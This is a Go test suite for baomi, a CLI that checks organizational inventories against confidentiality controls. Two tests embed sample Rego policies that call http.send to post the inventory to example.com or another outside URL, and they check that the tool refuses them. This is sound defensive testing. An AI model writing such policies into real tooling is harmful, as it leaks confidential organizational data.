package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files")

// repoRoot changes the working directory to the repository root, so that paths
// in reports read as a user running from a checkout sees them.
func repoRoot(t *testing.T) {
	t.Helper()
	t.Chdir("../..")
}

func runBaomi(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(args, &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

// testOrganization is an organization whose own controls pass: every inventory
// must declare one (a run without it is an input error).
const testOrganization = `organization "acme" {
  name                   = "Acme"
  accountable_executive  = "Wang Li"
  lead_department        = department.legal
  last_management_review = "2026-10-01"

  classification_catalog {
    owner         = department.legal
    last_reviewed = "2026-10-01"
  }
}

department "legal" {
  name                = "Legal"
  head                = "Chen Jie"
  staff               = 3
  undertakings_signed = 3
}
`

// catalogSize is the number of controls in the built-in catalog, as baomi controls
// lists them, so that tests need not change when a control is added.
func catalogSize(t *testing.T) int {
	t.Helper()
	code, out, errOut := runBaomi(t, "controls", "--format", "json")
	if code != 0 {
		t.Fatalf("controls: exit %d: %s", code, errOut)
	}
	var cat struct{ Controls []json.RawMessage }
	if err := json.Unmarshal([]byte(out), &cat); err != nil {
		t.Fatal(err)
	}
	if len(cat.Controls) == 0 {
		t.Fatal("the catalog lists no controls")
	}
	return len(cat.Controls)
}

// failingInventory is the smallest inventory with failures: a server holding
// data without any of the storage controls' facts declared.
const failingInventory = testOrganization + `system "db" {
  kind = "server"
}
data_asset "d" {
  category       = "identity"
  classification = "secret"
  stored_in      = [system.db]
}
`

func writeInventory(t *testing.T, content string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "inventory.hcl"), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("cmd/baomi/testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./cmd/baomi -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (go test ./cmd/baomi -update rewrites it after a deliberate change)", path)
	}
}

func TestCheckAcmeJSONGolden(t *testing.T) {
	repoRoot(t)
	code, out, errOut := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
	if code != 1 {
		t.Fatalf("exit %d, want 1 (the example has failures); stderr:\n%s", code, errOut)
	}
	golden(t, "acme.json", []byte(out))
	_, again, _ := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
	if again != out {
		t.Error("two runs over the same inventory gave different bytes")
	}
}

// TestCheckAcmeJSONContract checks the JSON report's shape and its agreement
// with itself: every result is counted in the summary and in its control.
func TestCheckAcmeJSONContract(t *testing.T) {
	repoRoot(t)
	_, out, _ := runBaomi(t, "check", "fixtures/acme", "--format", "json", "--as-of", "2026-11-26")
	var rep struct {
		Tool     struct{ Name, Version string }
		AsOf     string `json:"as_of"`
		Summary  map[string]int
		Controls []struct {
			ID                       string
			Status                   string
			Pass, Fail, Warn, Waived int
		}
		Results []struct {
			Control, Status, Resource, Severity string
			Location                            *struct {
				File         string
				Line, Column int
			}
		}
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Tool.Name != "baomi" || rep.AsOf != "2026-11-26" {
		t.Errorf("tool %+v as_of %q", rep.Tool, rep.AsOf)
	}
	counts := map[string]int{}
	for _, r := range rep.Results {
		counts[r.Status]++
		if r.Location == nil || !strings.HasPrefix(r.Location.File, "fixtures/acme/") || r.Location.Line < 1 {
			t.Errorf("result %s %s has no usable location: %+v", r.Control, r.Resource, r.Location)
		}
	}
	for _, s := range []string{"pass", "fail", "warn", "waived"} {
		if counts[s] != rep.Summary[s] {
			t.Errorf("summary %s = %d, results hold %d", s, rep.Summary[s], counts[s])
		}
		if counts[s] == 0 {
			t.Errorf("the example inventory shows no %s result", s)
		}
	}
	if rep.Summary["results"] != len(rep.Results) || rep.Summary["controls"] != len(rep.Controls) {
		t.Errorf("summary %v does not match %d results / %d controls", rep.Summary, len(rep.Results), len(rep.Controls))
	}
}

func TestExitStatus(t *testing.T) {
	clean := writeInventory(t, testOrganization+"site \"hq\" {\n  kind = \"office\"\n}\n")
	unorganized := writeInventory(t, "site \"hq\" {\n  kind = \"office\"\n}\n")
	empty := writeInventory(t, "# nothing yet\n")
	failing := writeInventory(t, failingInventory)
	broken := writeInventory(t, "system \"db\" {\n  kind = \"serverr\"\n}\n")
	for _, tc := range []struct {
		name string
		args []string
		code int
		err  string
	}{
		{"only passes", []string{"check", clean, "--as-of", "2026-11-26"}, 0, ""},
		{"no organization", []string{"check", unorganized}, 2, "inventory.hcl:1:1: error: No organization: the inventory declares no organization"},
		{"no organization in validate", []string{"validate", unorganized}, 2, "the inventory declares no organization"},
		{"no organization in partners", []string{"partners", unorganized}, 2, "the inventory declares no organization"},
		{"no resources", []string{"check", empty}, 2, "inventory.hcl:1:1: error: No resources: the inventory declares no resources at all"},
		{"failures", []string{"check", failing, "--as-of", "2026-11-26"}, 1, ""},
		{"failures below fail-on", []string{"check", failing, "--as-of", "2026-11-26", "--fail-on", "critical"}, 0, ""},
		{"failures at fail-on", []string{"check", failing, "--as-of", "2026-11-26", "--fail-on", "high"}, 1, ""},
		{"bad inventory", []string{"check", broken}, 2, "inventory.hcl:2:10: error: Invalid value"},
		{"missing path", []string{"check", "no/such/dir"}, 2, "no/such/dir: error: cannot read inventory path"},
		{"bad as-of", []string{"check", clean, "--as-of", "26/11/2026"}, 2, "--as-of 26/11/2026"},
		{"bad fail-on", []string{"check", clean, "--fail-on", "severe"}, 2, "--fail-on"},
		{"bad format", []string{"check", clean, "--format", "xml"}, 2, "--format xml"},
		{"bad lang", []string{"check", clean, "--lang", "fr"}, 2, "--lang fr"},
		{"unknown flag", []string{"check", clean, "--nope"}, 2, "unknown flag"},
		{"unknown skip", []string{"check", clean, "--skip", "backup-encryptd"}, 2, "did you mean backup-encrypted?"},
		{"missing policy folder", []string{"check", clean, "--policy", "no/such/policies"}, 2, "no/such/policies"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, _, errOut := runBaomi(t, tc.args...)
			if code != tc.code {
				t.Errorf("exit %d, want %d; stderr:\n%s", code, tc.code, errOut)
			}
			if !strings.Contains(errOut, tc.err) {
				t.Errorf("stderr lacks %q:\n%s", tc.err, errOut)
			}
			if strings.Contains(errOut, "goroutine ") || strings.Contains(errOut, "panic") {
				t.Errorf("stack trace on stderr:\n%s", errOut)
			}
		})
	}
}

func TestUserPolicyFolder(t *testing.T) {
	repoRoot(t)
	code, out, errOut := runBaomi(t, "check", "fixtures/acme", "--policy", "evaluator/testdata/user", "--format", "json", "--as-of", "2026-11-26")
	if code != 1 {
		t.Fatalf("exit %d; stderr:\n%s", code, errOut)
	}
	if !strings.Contains(out, `"control": "ACME-4.2.1-01"`) || !strings.Contains(out, `"id": "ACME-4.2.1-01"`) {
		t.Error("the user control is missing from the report")
	}
	code, out, _ = runBaomi(t, "controls", "--policy", "evaluator/testdata/user")
	if code != 0 || !strings.Contains(out, "ACME-4.2.1-01") {
		t.Errorf("baomi controls does not list the user control (exit %d)", code)
	}
}

func TestForbiddenBuiltinRefused(t *testing.T) {
	dir := t.TempDir()
	policy := `# METADATA
# title: Leaks
# description: Sends the inventory away.
# custom:
#   id: EVIL-1.1-01
#   short_code: evil
#   article: "1.1"
#   severity: low
#   title_zh: 外泄
#   remediation: none
#   remediation_zh: 无
package evil

applicable contains "system.db"

deny contains {"resource": "system.db", "message": r.body} if {
	r := http.send({"method": "post", "url": "https://example.com", "body": input})
}
`
	if err := os.WriteFile(filepath.Join(dir, "evil.rego"), []byte(policy), 0o644); err != nil {
		t.Fatal(err)
	}
	inv := writeInventory(t, testOrganization+"site \"hq\" {}\n")
	code, _, errOut := runBaomi(t, "check", inv, "--policy", dir)
	if code != 2 || !strings.Contains(errOut, "evil.rego:17:7") || !strings.Contains(errOut, "http.send is not allowed") {
		t.Errorf("exit %d, stderr:\n%s", code, errOut)
	}
}

func TestConfigPrecedence(t *testing.T) {
	inv := writeInventory(t, failingInventory)
	t.Chdir(t.TempDir())
	if err := os.WriteFile("baomi.yaml", []byte("fail-on: critical\nsettings:\n  patch_max_age_days: 10\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := runBaomi(t, "check", inv); code != 0 {
		t.Errorf("baomi.yaml fail-on critical: exit %d, want 0\n%s", code, errOut)
	}
	t.Setenv("BAOMI_FAIL_ON", "high")
	if code, _, _ := runBaomi(t, "check", inv); code != 1 {
		t.Errorf("env over file: exit %d, want 1", code)
	}
	if code, _, _ := runBaomi(t, "check", inv, "--fail-on", "critical"); code != 0 {
		t.Errorf("flag over env: exit %d, want 0", code)
	}
	if err := os.WriteFile("other.yaml", []byte("settings:\n  patch_max_age_dayz: 10\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errOut := runBaomi(t, "check", inv, "--config", "other.yaml")
	if code != 2 || !strings.Contains(errOut, `did you mean "patch_max_age_days"`) {
		t.Errorf("unknown setting: exit %d\n%s", code, errOut)
	}
	t.Setenv("BAOMI_SETTINGS_BACKUP_MIN_FREQUENCY", "hourly")
	code, _, errOut = runBaomi(t, "check", inv)
	if code != 2 || !strings.Contains(errOut, "backup_min_frequency must be one of") {
		t.Errorf("bad setting from env: exit %d\n%s", code, errOut)
	}
}

func TestTableAndLanguage(t *testing.T) {
	repoRoot(t)
	_, out, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--lang", "en")
	if !strings.Contains(out, "Severity") || strings.Contains(out, "│ pass ") {
		t.Errorf("default table must show failures and warnings only:\n%s", out)
	}
	last := strings.TrimSpace(out[strings.LastIndex(strings.TrimSpace(out), "\n")+1:])
	if !strings.Contains(out, fmt.Sprintf("\n%d controls, ", catalogSize(t))) || !strings.HasPrefix(last, "verdict: FAIL — ") {
		t.Errorf("want the summary line, then the verdict last; last line = %q", last)
	}
	_, all, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--show", "all", "--lang", "en")
	if !strings.Contains(all, "│ pass ") {
		t.Error("--show all must list passes")
	}
	_, zh, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--lang", "zh")
	if !strings.Contains(zh, "严重程度") || !strings.Contains(zh, "项控制") || !strings.Contains(zh, "四(二)1") {
		t.Errorf("--lang zh output is not Chinese:\n%s", zh)
	}
	t.Setenv("LANG", "zh_CN.UTF-8")
	_, loc, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26")
	if !strings.Contains(loc, "严重程度") {
		t.Error("a zh LANG locale must select Chinese when no --lang is given")
	}
}

func TestControlsDocUpToDate(t *testing.T) {
	repoRoot(t)
	code, out, errOut := runBaomi(t, "controls", "--format", "markdown")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	want, err := os.ReadFile("docs/controls.md")
	if err != nil {
		t.Fatal(err)
	}
	if out != string(want) {
		t.Error("docs/controls.md is out of date: run go run ./cmd/baomi controls --format markdown > docs/controls.md")
	}
	if n, want := strings.Count(out, "\n### BM-"), catalogSize(t); n != want {
		t.Errorf("docs/controls.md describes %d controls, want %d", n, want)
	}
}

func TestCoverage(t *testing.T) {
	code, out, _ := runBaomi(t, "controls", "--coverage", "--format", "json")
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	var cov struct {
		Articles []struct {
			Article, Status string
			Controls        []string
		}
	}
	if err := json.Unmarshal([]byte(out), &cov); err != nil {
		t.Fatal(err)
	}
	status := map[string]string{}
	seen := map[string]bool{}
	byArticle := map[string]string{}
	for _, a := range cov.Articles {
		status[a.Article] = a.Status
		byArticle[a.Article] = strings.Join(a.Controls, ",")
		for _, c := range a.Controls {
			seen[c] = true
		}
		if a.Status == "not_covered" {
			t.Errorf("article %s is not covered by any control", a.Article)
		}
	}
	if status["1.1"] != "definitional" || status["1.3"] != "definitional" || status["1.2"] != "covered" || status["5.1"] != "covered" {
		t.Errorf("coverage statuses: %v", status)
	}
	// The Terraform controls cover the articles of the declared facts they check.
	if !strings.Contains(byArticle["4.2.1"], "BM-4.2.1-05,BM-4.2.1-06,BM-4.2.1-07,BM-4.2.1-08") || !strings.Contains(byArticle["4.2.3"], "BM-4.2.3-04") {
		t.Errorf("the Terraform controls are missing from the coverage of 4.2.1 (%s) or 4.2.3 (%s)", byArticle["4.2.1"], byArticle["4.2.3"])
	}
	if n := catalogSize(t); len(cov.Articles) != 28 || len(seen) != n {
		t.Errorf("coverage lists %d articles and %d controls, want 28 and %d", len(cov.Articles), len(seen), n)
	}
	_, md, _ := runBaomi(t, "controls", "--coverage", "--format", "markdown", "--lang", "zh")
	if !strings.Contains(md, "| 一(一)") || !strings.Contains(md, "定义性条款") {
		t.Errorf("Chinese Markdown coverage:\n%s", md)
	}
}

func TestBaselineFlow(t *testing.T) {
	dir := writeInventory(t, failingInventory)
	base := filepath.Join(t.TempDir(), "baseline.json")
	code, _, errOut := runBaomi(t, "check", dir, "--as-of", "2026-11-26", "--write-baseline", base)
	if code != 1 {
		t.Fatalf("first run: exit %d, want 1\n%s", code, errOut)
	}
	code, out, _ := runBaomi(t, "check", dir, "--as-of", "2026-11-26", "--baseline", base, "--lang", "en")
	if code != 0 {
		t.Errorf("every failure is in the baseline: exit %d, want 0\n%s", code, out)
	}
	if words := strings.Join(strings.Fields(out), " "); !strings.Contains(out, "(baseline)") || !strings.Contains(words, "failures in the baseline") {
		t.Errorf("baselined failures must still be shown as such:\n%s", out)
	}
	// Lines move and a new failing system appears: only the new one fails the run.
	changed := "# moved down\n\n" + testOrganization + `system "db" {
  kind = "server"
}
system "usb" {
  kind = "removable_media"
}
data_asset "d" {
  category       = "identity"
  classification = "secret"
  stored_in      = [system.db, system.usb]
}
`
	if err := os.WriteFile(filepath.Join(dir, "inventory.hcl"), []byte(changed), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, _ = runBaomi(t, "check", dir, "--as-of", "2026-11-26", "--baseline", base, "--format", "json")
	if code != 1 {
		t.Errorf("a new failure must fail the run: exit %d", code)
	}
	var rep struct {
		Results []struct {
			Control, Resource, Status string
			Baselined                 bool
		}
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	for _, r := range rep.Results {
		if r.Status == "fail" && r.Baselined != (r.Resource != "system.usb") {
			t.Errorf("%s on %s: baselined=%v", r.Control, r.Resource, r.Baselined)
		}
	}
	if code, _, _ := runBaomi(t, "check", dir, "--as-of", "2026-11-26", "--baseline", base, "--fail-on", "critical", "--skip", "storage-prohibited-media"); code != 0 {
		t.Errorf("with the new failure skipped the run passes again: exit %d", code)
	}
	bad := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(bad, []byte(`{"failures": 3}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := runBaomi(t, "check", dir, "--baseline", bad); code != 2 || !strings.Contains(errOut, "not a baomi baseline") {
		t.Errorf("a malformed baseline: exit %d\n%s", code, errOut)
	}
}

func TestOutputFile(t *testing.T) {
	repoRoot(t)
	out := filepath.Join(t.TempDir(), "report.json")
	code, stdout, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--format", "json", "--output", out, "--lang", "en")
	got, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if code != 1 || !strings.Contains(stdout, fmt.Sprintf("%d controls, %d results", catalogSize(t), readSaved(t, out).Summary.Results)) {
		t.Errorf("exit %d; the table must still reach standard output: %q", code, stdout)
	}
	want, _ := os.ReadFile("cmd/baomi/testdata/acme.json")
	if !bytes.Equal(got, want) {
		t.Error("--output wrote a different report than standard output gives")
	}
	// The table is drawn while the file is written: it must be the whole table.
	if _, table, _ := runBaomi(t, "check", "fixtures/acme", "--as-of", "2026-11-26", "--format", "table", "--lang", "en"); stdout != table {
		t.Errorf("beside --output, standard output is not the table --format table prints:\n%s", stdout)
	}
	entries, _ := os.ReadDir(filepath.Dir(out))
	if len(entries) != 1 {
		t.Errorf("temporary files left beside the report: %v", entries)
	}
}

func TestValidate(t *testing.T) {
	repoRoot(t)
	code, out, errOut := runBaomi(t, "validate", "fixtures/acme")
	if code != 0 || !strings.Contains(out, "4 files") || !strings.Contains(out, "valid") {
		t.Errorf("exit %d\n%s%s", code, out, errOut)
	}
	waiver := writeInventory(t, `organization "acme" {}
site "hq" {}
waiver "w" {
  control     = "storage-encryptd"
  resource    = site.hq
  reason      = "r"
  approved_by = "a"
  expires     = "2027-01-01"
}
`)
	code, _, errOut = runBaomi(t, "validate", waiver)
	if code != 2 || !strings.Contains(errOut, "inventory.hcl:4:3: error: Invalid waiver") || !strings.Contains(errOut, "did you mean storage-encrypted?") {
		t.Errorf("a waiver naming an unknown control: exit %d\n%s", code, errOut)
	}
	code, _, errOut = runBaomi(t, "check", waiver)
	if code != 2 || !strings.Contains(errOut, "inventory.hcl:4:3: error: Invalid waiver") {
		t.Errorf("check must refuse the same waiver: exit %d\n%s", code, errOut)
	}
	both := writeInventory(t, `system "s" {
  kind = "servr"
}
waiver "w" {
  control     = "no-such-control"
  resource    = system.s
  reason      = "r"
  approved_by = "a"
  expires     = "2027-01-01"
}
`)
	for _, cmd := range []string{"validate", "check"} {
		code, _, errOut = runBaomi(t, cmd, both)
		if code != 2 || !strings.Contains(errOut, "inventory.hcl:2:10: error: Invalid value") || !strings.Contains(errOut, "inventory.hcl:5:3: error: Invalid waiver") {
			t.Errorf("%s must report the decode error and the unknown control together: exit %d\n%s", cmd, code, errOut)
		}
	}
}

func TestPolicyTests(t *testing.T) {
	repoRoot(t)
	code, out, errOut := runBaomi(t, "test", "evaluator/testdata/user")
	if code != 0 || !strings.Contains(out, "PASS acme.system_named_test.test_unnamed_fails") || !strings.HasSuffix(out, "1 passed, 0 failed\n") {
		t.Errorf("exit %d\n%s%s", code, out, errOut)
	}
	dir := t.TempDir()
	failing := "package mine_test\n\ntest_wrong if {\n\t1 == 2\n}\n\ntest_right if {\n\tdata.baomi.lib.frequency_rank.daily == 4\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "mine_test.rego"), []byte(failing), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, _ = runBaomi(t, "test", dir)
	if code != 1 || !strings.Contains(out, "FAIL mine_test.test_wrong") || !strings.HasSuffix(out, "1 passed, 1 failed\n") {
		t.Errorf("a failing test: exit %d\n%s", code, out)
	}
	evil := "package evil_test\n\ntest_leak if {\n\thttp.send({\"method\": \"get\", \"url\": \"http://x\"})\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "mine_test.rego"), []byte(evil), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errOut = runBaomi(t, "test", dir)
	if code != 2 || !strings.Contains(errOut, "http.send is not allowed") {
		t.Errorf("a test calling http.send: exit %d\n%s", code, errOut)
	}
}

// TestInputErrorsCountedBySource checks that the count at the end of a run
// stopped by input errors says whose they are: the inventory's, the Terraform
// inputs', or both, each counted apart.
func TestInputErrorsCountedBySource(t *testing.T) {
	badInventory := t.TempDir()
	if err := os.WriteFile(filepath.Join(badInventory, "a.hcl"), []byte("site \"a\" {\n  bogus = 1\n}\nsite \"b\" {\n  citty = \"x\"\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	badTerraform := t.TempDir()
	// Three characters hcl does not know and the definition it misses: 4 errors.
	if err := os.WriteFile(filepath.Join(badTerraform, "main.tf"), []byte(strings.Repeat("@\n", 3)), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"check", badInventory}, "baomi: the inventory has 2 errors; nothing was evaluated\n"},
		{[]string{"check", "../../fixtures/acme", "--terraform", badTerraform}, "baomi: the Terraform inputs have 4 errors; nothing was evaluated\n"},
		{[]string{"check", badInventory, "--terraform", badTerraform}, "baomi: the inventory has 2 errors and the Terraform inputs 4; nothing was evaluated\n"},
		{[]string{"validate", badInventory, "--terraform", badTerraform}, "baomi: the inventory has 2 errors and the Terraform inputs 4; nothing was evaluated\n"},
	} {
		code, _, stderr := runBaomi(t, c.args...)
		if code != exitError || !strings.HasSuffix(stderr, c.want) {
			t.Errorf("%v: exit %d, stderr ends %q, want %q", c.args, code, stderr[max(0, len(stderr)-200):], c.want)
		}
	}
}

// TestJunkFileErrorsCounted checks that a file of junk prints its first
// problems and a line for the rest, and that the count at the end includes
// the problems not shown.
func TestJunkFileErrorsCounted(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "junk.hcl"), []byte(strings.Repeat("@\n", 500)), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, stderr := runBaomi(t, "check", dir)
	if code != exitError || !strings.HasSuffix(stderr, "baomi: the inventory has 501 errors; nothing was evaluated\n") {
		t.Fatalf("exit %d, stderr ends %q", code, stderr[max(0, len(stderr)-200):])
	}
	if n := strings.Count(stderr, ": error: "); n != 101 {
		t.Errorf("%d errors printed, want the first 100 and one for the 401 more", n)
	}
	if !strings.Contains(stderr, ": error: more problems not shown: 401 more problems in this file") {
		t.Errorf("no line for the problems not shown")
	}
}
